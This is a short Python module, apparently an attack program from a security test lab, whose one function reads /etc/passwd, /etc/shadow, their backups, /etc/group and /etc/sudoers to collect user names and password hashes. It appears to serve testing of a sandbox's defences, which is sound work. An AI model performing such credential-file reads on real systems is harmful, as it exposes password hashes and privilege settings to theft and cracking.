"""Reads who the users are, and their passwords' hashes."""

from __future__ import annotations

from typing import Any

from tests.lab.attacks.programs.inside import read


def attack(world: dict[str, Any]) -> str:
    names = ("/etc/passwd", "/etc/shadow", "/etc/passwd-", "/etc/shadow-", "/etc/group", "/etc/sudoers")
    return b"".join(map(read, names)).decode(errors="replace")
